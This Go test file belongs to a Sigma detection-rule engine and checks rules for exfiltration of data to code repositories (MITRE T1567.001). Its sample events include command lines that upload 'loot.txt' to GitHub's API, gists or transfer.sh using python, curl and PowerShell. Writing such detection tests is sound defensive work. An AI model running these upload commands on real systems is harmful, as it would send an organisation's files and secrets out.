package sigma

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/event"
)

func TestOwnRuleMetadata(t *testing.T) {
	net, proc := ownRules(t)
	for _, r := range []*Rule{net, proc} {
		assert.Regexp(t, `^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`, r.ID)
		assert.Equal(t, "experimental", r.Status)
		assert.Equal(t, "high", r.Level)
		assert.Contains(t, r.Tags, "attack.exfiltration")
		assert.Contains(t, r.Tags, "attack.t1567.001")
		assert.Contains(t, r.Description, "seed_t1567_001_code_repo_exfil.spl")
		assert.Contains(t, r.Description, "SuspicionScore >= 2")
	}
	assert.NotEqual(t, net.ID, proc.ID)
	assert.Equal(t, "network_connection", net.Logsource.Category)
	assert.Equal(t, "process_creation", proc.Logsource.Category)
	assert.Contains(t, net.Description, "no ParentImage")
}

// TestOwnRule checks the seed equivalent fires exactly where the SPL's
// SuspicionScore >= 2.
func TestOwnRule(t *testing.T) {
	net, proc := ownRules(t)
	pythonPut := `python.exe -c "import requests; requests.put('https://api.github.com/repos/x/y/contents/loot.txt', data=open('loot.txt').read())"`
	tests := []struct {
		name  string
		ev    event.Event
		fires bool
		// explain: substrings of the explanation of rule ("net" or "proc").
		rule    string
		explain []string
	}{
		{
			name: "sysmon3 curl to api.github.com", fires: true, rule: "net",
			ev:      netConnect(workstation, curlExe, "api.github.com"),
			explain: []string{`selection_image: matched (Image|endswith`, `matched "C:\Windows\System32\curl.exe"`, "filter_known_ide: ParentImage|re", "field absent (Sysmon 3 events have no ParentImage)"},
		},
		{
			name: "sysmon1 git push --force to github", fires: true, rule: "proc",
			ev:      procCreate(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{"selection_git_push: matched", "signal_git_push_external: matched"},
		},
		{
			name: "sysmon1 python PUT to api.github.com", fires: true, rule: "proc",
			ev:      procCreate(workstation, pythonExe, pythonPut, cmdExe),
			explain: []string{"selection_api_verb: matched", "signal_code_repo_api_upload: matched"},
		},
		{
			name: "sysmon1 powershell Invoke-RestMethod PUT", fires: true, rule: "proc",
			ev: procCreate(workstation, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				`powershell.exe -c "Invoke-RestMethod -Method PUT -Uri https://api.github.com/repos/x/y/contents/a.txt"`, explorerExe),
		},
		{
			name: "sysmon1 curl POST gist", fires: true, rule: "proc",
			ev: procCreate(workstation, curlExe, `curl.exe -X POST -H "Authorization: token x" https://api.github.com/gists -d @c.json`, cmdExe),
		},
		{
			name: "CI host sysmon3", rule: "net",
			ev:      netConnect(ciRunner, curlExe, "api.github.com"),
			explain: []string{`filter_ci_host: matched (Computer|re`, `matched "GITLAB-RUNNER-W03"`},
		},
		{
			name: "CI host git push", rule: "proc",
			ev:      procCreate(ciRunner, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{`filter_ci_host: matched`},
		},
		{
			name: "CI host python PUT", rule: "proc",
			ev: procCreate(ciRunner, pythonExe, pythonPut, cmdExe),
		},
		{
			name: "sysmon3 from git-remote-https.exe", rule: "net",
			ev:      netConnect(workstation, gitRemoteExe, "github.com"),
			explain: []string{`selection_image: Image|endswith ["\git.exe", "\curl.exe"`, `did not match "` + gitRemoteExe + `"`},
		},
		{
			name: "sysmon1 cmd.exe", rule: "proc",
			ev:      procCreate(workstation, cmdExe, `cmd.exe /c git push https://github.com/x/y.git`, explorerExe),
			explain: []string{`selection_git_image: Image|endswith "\git.exe" did not match "C:\Windows\System32\cmd.exe"`},
		},
		{
			name: "sysmon3 to unrelated host", rule: "net",
			ev:      netConnect(workstation, curlExe, "example.com"),
			explain: []string{`selection_destination: DestinationHostname ["github.com"`, `did not match "example.com"`},
		},
		// The SPL's quirks, kept on purpose.
		{
			name: "quirk: IDE parent cannot filter a sysmon3", fires: true, rule: "net",
			// git.exe spawned by Code.exe: Sysmon 3 carries no ParentImage to filter on.
			ev:      netConnect(workstation, gitExe, "github.com"),
			explain: []string{"Sysmon 3 events have no ParentImage"},
		},
		{
			name: "IDE parent on sysmon1 git push still scores 3", fires: true, rule: "proc",
			ev: procCreate(workstation, gitExe, "git push https://github.com/x/y.git", codeExe),
		},
		{
			name: "quirk: push to dev.azure.com is Signal Unknown", rule: "proc",
			ev:      procCreate(workstation, gitExe, "git push https://dev.azure.com/org/p/_git/r", cmdExe),
			explain: []string{"selection_git_remote: matched", "signal_git_push_external: CommandLine|re|all", "signal_code_repo_api_upload: CommandLine|re"},
		},
		{
			name: "quirk: upper-case PUSH passes the search but not match()", rule: "proc",
			ev: procCreate(workstation, gitExe, "git PUSH https://github.com/x/y.git", cmdExe),
		},
		{
			name: "git pull is not a push", rule: "proc",
			ev: procCreate(workstation, gitExe, "git pull https://github.com/x/y.git", cmdExe),
		},
		{
			name: "4688 git push: the SPL reads Sysmon only", rule: "proc",
			ev:      security4688(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{"Security 4688 on WS-FIN-0142 is not in logsource process_creation ← Sysmon 1"},
		},
		{
			name: "file event", rule: "net",
			ev: sysmonEvent(11, workstation, "Image", gitExe, "TargetFilename", `C:\x\github.com`),
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			byName := map[string]*Rule{"net": net, "proc": proc}
			fires := false
			var exp *Explanation
			for name, r := range byName {
				ok, e := mustMatch(t, r, tc.ev)
				fires = fires || ok
				if name == tc.rule {
					exp = e
				}
			}
			assert.Equal(t, tc.fires, fires)
			require.NotNil(t, exp)
			text := exp.String()
			for _, s := range tc.explain {
				assert.Contains(t, text, s)
			}
			if t.Failed() {
				t.Log(text)
			}
		})
	}
}

func TestExplanationNamesFailedField(t *testing.T) {
	net, _ := ownRules(t)
	ok, exp := mustMatch(t, net, netConnect(workstation, gitRemoteExe, "github.com"))
	require.False(t, ok)
	s, found := exp.Search("selection_image")
	require.True(t, found)
	assert.False(t, s.Matched)
	require.Len(t, s.Fields, 1)
	assert.Equal(t, "Image|endswith", s.Fields[0].Key)
	assert.Equal(t, gitRemoteExe, s.Fields[0].Actual)
	assert.True(t, strings.HasPrefix(s.String(), `selection_image: Image|endswith ["\git.exe", `), s.String())
	assert.True(t, strings.HasSuffix(s.String(), ` did not match "`+gitRemoteExe+`"`), s.String())
	d, _ := exp.Search("selection_destination")
	assert.True(t, d.Matched)
}

const ruleHeader = `title: t
id: 11111111-2222-4333-8444-555555555555
status: test
level: low
logsource:
    category: process_creation
    product: windows
`

func TestSecurity4688Mapping(t *testing.T) {
	rule := func(det string) *Rule {
		r, err := Load("inline.yml", []byte(ruleHeader+"detection:\n"+det))
		require.NoError(t, err)
		return r
	}
	ev := security4688("WS-FIN-0142", curlExe, `curl.exe --upload-file loot.txt https://transfer.sh/`, cmdExe)
	tests := []struct {
		name    string
		det     string
		want    bool
		explain string
	}{
		{"Image", "    sel:\n        Image|endswith: '\\curl.exe'\n    condition: sel\n", true, ""},
		{"ParentImage", "    sel:\n        ParentImage: 'C:\\Windows\\System32\\cmd.exe'\n    condition: sel\n", true, ""},
		{"CommandLine", "    sel:\n        CommandLine|contains: ' --upload-file '\n    condition: sel\n", true, ""},
		{"User", "    sel:\n        User: 'CORP\\alice'\n    condition: sel\n", true, ""},
		{"ProcessId", "    sel:\n        ProcessId: 6700\n        ParentProcessId: 4340\n    condition: sel\n", true, ""},
		{"IntegrityLevel", "    sel:\n        IntegrityLevel: Medium\n    condition: sel\n", true, ""},
		{"Hostname", "    sel:\n        Hostname|startswith: 'WS-FIN-'\n        Computer: ws-fin-0142\n    condition: sel\n", true, ""},
		{"ParentCommandLine cannot match", "    sel:\n        ParentCommandLine|contains: 'cmd'\n    condition: sel\n", false,
			`sel: ParentCommandLine|contains "cmd" did not match: field absent (Security 4688 has no ParentCommandLine)`},
		{"OriginalFileName alternative falls back to Image", "    sel:\n        - OriginalFileName: curl.exe\n        - Image|endswith: '\\curl.exe'\n    condition: sel\n", true, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := rule(tc.det)
			require.True(t, r.Applies(ev))
			ok, exp := mustMatch(t, r, ev)
			assert.Equal(t, tc.want, ok, exp.String())
			if tc.explain != "" {
				assert.Contains(t, exp.String(), tc.explain)
			}
		})
	}
}

func TestApplies(t *testing.T) {
	load := func(ls string) *Rule {
		r, err := Load("inline.yml", []byte("title: t\nlogsource:\n"+ls+"detection:\n    sel:\n        Image: x\n    condition: sel\n"))
		require.NoError(t, err, ls)
		return r
	}
	evs := map[string]event.Event{
		"sysmon1":  procCreate(workstation, gitExe, "git", cmdExe),
		"sysmon3":  netConnect(workstation, gitExe, "github.com"),
		"sysmon11": sysmonEvent(11, workstation, "Image", gitExe),
		"sysmon22": sysmonEvent(22, workstation, "Image", gitExe),
		"4688":     security4688(workstation, gitExe, "git", cmdExe),
		"4104":     scriptBlock(workstation, "x"),
		"sysmon5":  sysmonEvent(5, workstation, "Image", gitExe),
		"4663":     {Provider: event.Security, EventID: 4663, Channel: event.SecurityChannel, Computer: workstation},
		"proxy":    {Provider: event.ProxyProvider, Channel: event.ProxyChannel},
		"zeekconn": {Provider: event.ZeekProvider, Channel: event.ZeekConn},
		"zeekssl":  {Provider: event.ZeekProvider, Channel: event.ZeekSSL},
	}
	tests := []struct {
		logsource string
		applies   []string
	}{
		{"    category: process_creation\n    product: windows\n", []string{"sysmon1", "4688"}},
		{"    category: process_creation\n    product: windows\n    service: sysmon\n", []string{"sysmon1"}},
		{"    category: process_creation\n    product: windows\n    service: security\n", []string{"4688"}},
		{"    product: windows\n    service: security\n", []string{"4688", "4663"}},
		{"    category: proxy\n", []string{"proxy"}},
		{"    product: zeek\n    service: conn\n", []string{"zeekconn"}},
		{"    product: zeek\n    service: ssl\n", []string{"zeekssl"}},
		{"    category: network_connection\n    product: windows\n", []string{"sysmon3"}},
		{"    category: file_event\n    product: windows\n", []string{"sysmon11"}},
		{"    category: dns_query\n    product: windows\n", []string{"sysmon22"}},
		{"    category: ps_script\n    product: windows\n", []string{"4104"}},
		{"    product: windows\n    service: sysmon\n", []string{"sysmon1", "sysmon3", "sysmon11", "sysmon22", "sysmon5"}},
		{"    product: windows\n    category: process_termination\n", []string{"sysmon5"}},
		{"    product: windows\n    service: powershell\n", []string{"4104"}},
	}
	for _, tc := range tests {
		r := load(tc.logsource)
		for name, ev := range evs {
			assert.Equal(t, contains(tc.applies, name), r.Applies(ev), "%q on %s", tc.logsource, name)
		}
	}
	r := load("    category: network_connection\n    product: windows\n")
	ok, exp := mustMatch(t, r, evs["sysmon1"])
	assert.False(t, ok)
	assert.False(t, exp.Applies)
	assert.Contains(t, exp.String(), "Sysmon 1 on WS-FIN-0142 is not in logsource network_connection ← Sysmon 3")
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func TestLoadUnsupported(t *testing.T) {
	det := func(d string) string { return ruleHeader + "detection:\n" + d }
	tests := []struct {
		name   string
		yaml   string
		line   int
		reason string
	}{
		{"unknown modifier", det("    sel:\n        CommandLine|sharpen: ' -f '\n    condition: sel\n"), 10,
			`unknown modifier "sharpen" (CommandLine|sharpen)`},
		{"re flag without re", det("    sel:\n        CommandLine|contains|i: 'x'\n    condition: sel\n"), 10, `regular expression flag "i" needs re before it`},
		{"base64 of a wildcard", det("    sel:\n        CommandLine|contains|base64: 'x'\n    condition: sel\n"), 10,
			"base64 of a value with wildcards (CommandLine|contains|base64)"},
		{"two comparisons", det("    sel:\n        CommandLine|contains|startswith: 'x'\n    condition: sel\n"), 10, `modifier "startswith" cannot follow another comparison`},
		{"contains then re", det("    sel:\n        CommandLine|contains|re: 'x'\n    condition: sel\n"), 10, "contains, startswith and endswith cannot be combined with re"},
		{"re then expand", det("    sel:\n        CommandLine|re|expand: '%x%'\n    condition: sel\n"), 10, `modifier "expand" cannot follow re, cidr, exists, fieldref or gt/gte/lt/lte`},
		{"windash then fieldref", det("    sel:\n        CommandLine|windash|fieldref: Image\n    condition: sel\n"), 10, `modifier "fieldref" cannot be combined with the modifiers before it`},
		{"re and contains", det("    sel:\n        CommandLine|re|contains: 'x'\n    condition: sel\n"), 10, `modifier "contains" cannot follow another comparison`},
		{"null with modifier", det("    sel:\n        ParentImage|endswith: null\n    condition: sel\n"), 10, "null cannot take modifiers"},
		{"placeholder without config", det("    sel:\n        User|expand: '%admins%'\n    condition: sel\n"), 10, "placeholder %admins% has no values in the configuration"},
		{"pcre lookahead", det("    sel:\n        CommandLine|re: '(?!x)y'\n    condition: sel\n"), 10, "is not RE2"},
		{"bad cidr", det("    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel\n"), 10, "invalid CIDR"},
		{"gt needs a number", det("    sel:\n        Count|gt: many\n    condition: sel\n"), 10, `gt needs a number, got "many"`},
		{"exists needs a boolean", det("    sel:\n        Count|exists: maybe\n    condition: sel\n"), 10, `exists needs true or false`},
		{"v1 aggregation", det("    sel:\n        Image: x\n    condition: sel | count() by User > 5\n"), 11, "is Sigma v1 syntax: write it as a correlation rule"},
		{"v1 timeframe", det("    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel\n"), 11, "timeframe belongs to Sigma v1 aggregations"},
		{"undefined identifier", det("    sel:\n        Image: x\n    condition: sel and not filter\n"), 11, `search identifier "filter" is not defined`},
		{"pattern matching nothing", det("    sel:\n        Image: x\n    condition: sel and not 1 of filter_*\n"), 11, `pattern "filter_*" matches no search identifier`},
		{"condition syntax", det("    sel:\n        Image: x\n    condition: (sel and\n"), 11, `condition "(sel and": condition ends early`},
		{"unbalanced", det("    sel:\n        Image: x\n    condition: (sel\n"), 11, `missing ')'`},
		{"too deep", det("    sel:\n        Image: x\n    condition: " + strings.Repeat("(", 70) + "sel" + strings.Repeat(")", 70) + "\n"), 11, "condition nests deeper than 64"},
		{"null keyword", det("    sel:\n    condition: sel\n"), 9, "a keyword cannot be null"},
		{"no condition", det("    sel:\n        Image: x\n"), 9, "detection has no condition"},
		{"nested map value", det("    sel:\n        Image:\n            a: b\n    condition: sel\n"), 11, "a value must be a string, number, boolean or null"},
		{"yaml error", "title: t\nlogsource:\n  product: windows\n detection: [\n", 3, "parse error: did not find expected key"},
		{"not a rule", "title: t\n", 1, "not a Sigma rule"},
		{"empty", "", 0, "empty file"},
		{"two rules", ruleHeader + "detection:\n    sel:\n        Image: x\n    condition: sel\n---\n" + ruleHeader + "detection:\n    sel:\n        Image: y\n    condition: sel\n", 0,
			"file holds 2 detection rule(s), 0 correlation(s) and 0 filter(s); load it as a collection"},
		{"linux", "title: t\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", 0,
			"logsource product linux, category process_creation has no source in the logsource mapping"},
		{"windows service", "title: t\nlogsource:\n    product: windows\n    service: no-such-log\ndetection:\n    sel:\n        QueryName: x\n    condition: sel\n", 0,
			"logsource product windows, service no-such-log has no source in the logsource mapping"},
		{"windows category", "title: t\nlogsource:\n    product: windows\n    category: no_such_category\ndetection:\n    sel:\n        Contents: x\n    condition: sel\n", 0,
			"logsource product windows, category no_such_category has no source in the logsource mapping"},
		{"inconsistent service", "title: t\nlogsource:\n    product: windows\n    category: network_connection\n    service: security\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", 0,
			"is inconsistent"},
		{"too big", ruleHeader + "detection:\n    sel:\n        Image: '" + strings.Repeat("x", MaxRuleBytes) + "'\n    condition: sel\n", 0, "more than the limit of 1048576"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Load("x.yml", []byte(tc.yaml))
			require.Error(t, err)
			assert.Nil(t, r)
			var u Unsupported
			require.True(t, errors.As(err, &u), "%T", err)
			assert.Equal(t, "x.yml", u.Path)
			assert.Contains(t, u.Reason, tc.reason)
			assert.Equal(t, tc.line, u.Line, u.Error())
			assert.True(t, strings.HasPrefix(err.Error(), "x.yml:"), err.Error())
		})
	}
}

func TestLoadSupportedConstructs(t *testing.T) {
	r, err := Load("x.yml", []byte(ruleHeader+`detection:
    selection_img:
        - Image|endswith: '\curl.exe'
        - OriginalFileName: 'curl.exe'
    selection_cli:
        CommandLine|contains|all:
            - ' -T '
            - 'http'
    selection_b64:
        CommandLine|base64|contains: 'IEX'
    selection_re:
        CommandLine|re: '\s-[FTd]\s'
    filter_local:
        CommandLine|contains: '://localhost'
    condition: 1 of them and all of selection_i* and selection_cli and not 1 of filter_*
`))
	require.NoError(t, err)
	ok, exp := mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -T loot.txt https://transfer.sh/`, cmdExe))
	assert.True(t, ok, exp.String())
	ok, exp = mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -T loot.txt http://localhost/`, cmdExe))
	assert.False(t, ok, exp.String())
	assert.Contains(t, exp.String(), `filter_local: matched (CommandLine|contains "://localhost" matched`)
	ok, exp = mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -O https://transfer.sh/x`, cmdExe))
	assert.False(t, ok)
	assert.Contains(t, exp.String(), `selection_cli: CommandLine|contains|all [" -T ", "http"] did not match "curl.exe -O https://transfer.sh/x"`)
}

func TestMatchCancelled(t *testing.T) {
	net, _ := ownRules(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := net.Match(ctx, netConnect(workstation, curlExe, "api.github.com"))
	assert.ErrorIs(t, err, context.Canceled)
}

func TestLoadDir(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		p := filepath.Join(dir, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(body), 0o644))
	}
	write("a.yml", ruleHeader+"detection:\n    sel:\n        Image: x\n    condition: sel\n")
	write("sub/b.yaml", ruleHeader+"detection:\n    sel:\n        Image|sharpen: x\n    condition: sel\n")
	write("sub/c.yml", "title: [\n")
	write("notes.txt", "not a rule")
	rules, unsupported, err := LoadDir(dir)
	require.NoError(t, err)
	require.Len(t, rules, 1)
	assert.Equal(t, filepath.Join(dir, "a.yml"), rules[0].Path)
	require.Len(t, unsupported, 2)
	assert.Equal(t, filepath.Join(dir, "sub", "b.yaml"), unsupported[0].Path)
	assert.Contains(t, unsupported[0].Reason, `unknown modifier "sharpen"`)
	assert.Contains(t, unsupported[1].Reason, "parse error")

	_, _, err = LoadDir(filepath.Join(dir, "missing"))
	assert.Error(t, err)
}

// FuzzLoad: no input makes loading, matching or streaming panic.
func FuzzLoad(f *testing.F) {
	f.Add([]byte(ruleHeader + "detection:\n    sel:\n        Image|endswith: x\n    condition: sel\n"))
	f.Add([]byte("detection:\n  condition: all of them | count() > 1\n  timeframe: 1m\n"))
	f.Add([]byte("detection: {a: [1, {b: c}], condition: [a, 'not a']}\nlogsource: {category: process_creation}\n"))
	f.Add([]byte(ruleHeader + "detection:\n    sel:\n        CommandLine|windash|base64offset|contains: '-e?c*'\n    k:\n        - 'x\\*'\n    condition: 1 of s* or not (k)\n---\ntitle: c\ncorrelation: {type: temporal, rules: [11111111-2222-4333-8444-555555555555], timespan: 1m}\n"))
	m, err := DefaultMapping()
	require.NoError(f, err)
	cfg := &Config{Mapping: m, Placeholders: map[string][]string{"x": {"a*", "b"}}}
	evs := sampleEvents()
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := ParseFile("fuzz.yml", data, cfg)
		if err != nil {
			return
		}
		for _, r := range c.Rules {
			for _, ev := range evs {
				ok, _, err := r.Match(context.Background(), ev)
				require.NoError(t, err)
				fast, _ := r.Matches(context.Background(), ev)
				require.Equal(t, ok, fast)
			}
		}
		set, err := Compile(c)
		if err != nil {
			return
		}
		eng := set.NewEngine()
		for i := range evs {
			if _, _, err := eng.Add(context.Background(), &evs[i]); err != nil {
				t.Fatal(err)
			}
		}
		eng.Flush()
	})
}

func TestLimits(t *testing.T) {
	var b strings.Builder
	b.WriteString(ruleHeader + "detection:\n    sel:\n        CommandLine|contains:\n")
	for i := 0; i <= MaxValues; i++ {
		fmt.Fprintf(&b, "            - v%d\n", i)
	}
	b.WriteString("    condition: sel\n")
	_, err := Load("big.yml", []byte(b.String()))
	require.Error(t, err)
	assert.Contains(t, err.Error(), fmt.Sprintf("rule has more than %d values", MaxValues))
	assert.Regexp(t, `^big\.yml:\d+: `, err.Error())
}

// TestStreamCancelled: a cancelled context stops Set.Match and
// Engine.Add at the next event.
func TestStreamCancelled(t *testing.T) {
	net, proc := ownRules(t)
	set, err := Compile(&Collection{Rules: []*Rule{net, proc}})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	eng := set.NewEngine()
	ev := netConnect(workstation, curlExe, "api.github.com")
	hits, _, err := eng.Add(ctx, &ev)
	require.NoError(t, err)
	require.Len(t, hits, 1)
	assert.Equal(t, net, hits[0].Rule)
	cancel()
	_, err = set.Match(ctx, &ev)
	assert.ErrorIs(t, err, context.Canceled)
	_, _, err = eng.Add(ctx, &ev)
	assert.ErrorIs(t, err, context.Canceled)
}

// TestSetRoutesByProvider: an event without a Channel reaches the rules
// of its provider, in Set.Match as in Rule.Match.
func TestSetRoutesByProvider(t *testing.T) {
	net, proc := ownRules(t)
	set, err := Compile(&Collection{Rules: []*Rule{net, proc}})
	require.NoError(t, err)
	ev := netConnect(workstation, curlExe, "api.github.com")
	ev.Channel = ""
	hits, err := set.Match(context.Background(), &ev)
	require.NoError(t, err)
	require.Len(t, hits, 1)
	ok, _ := mustMatch(t, net, ev)
	assert.True(t, ok)
}
